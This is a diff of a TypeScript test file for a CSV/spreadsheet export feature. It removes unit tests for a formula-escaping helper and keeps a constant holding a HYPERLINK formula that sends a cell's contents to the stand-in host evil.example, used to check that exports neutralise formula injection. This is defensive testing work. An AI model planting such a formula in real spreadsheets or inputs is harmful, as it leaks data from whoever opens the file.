@@ -3,7 +3,6 @@ import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { signInAs, type TestSession } from '../test/auth';
 import { openDemoApp } from '../test/demo-app';
-import { neutraliseCell } from './spreadsheet';
 import { csvFile, postRequest, uploadRequest } from './test-files';
 
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
@@ -43,20 +42,6 @@ beforeAll(async () => {
   expect((await demo.app.request(`/api/v1/imports/${plan.planId}/commit`, postRequest(admin))).status).toBe(200);
 });
 afterAll(() => demo.close());
-
-describe('neutraliseCell', () => {
-  it.each([
-    ['=1+1', "'=1+1"],
-    ['+84 912', "'+84 912"],
-    ['-5', "'-5"],
-    ['@SUM(A1)', "'@SUM(A1)"],
-    ['\tx', "'\tx"],
-    ['\rx', "'\rx"],
-    ['Hà Nội', 'Hà Nội'],
-    ['a=b', 'a=b'],
-    ['', ''],
-  ])('%j → %j', (input, output) => expect(neutraliseCell(input)).toBe(output));
-});
 
 describe('GET /exports/pages', () => {
   it('writes CSV as UTF-8 with a BOM, a title line with scheme and as-of date, and neutralises formula-like names', async () => {
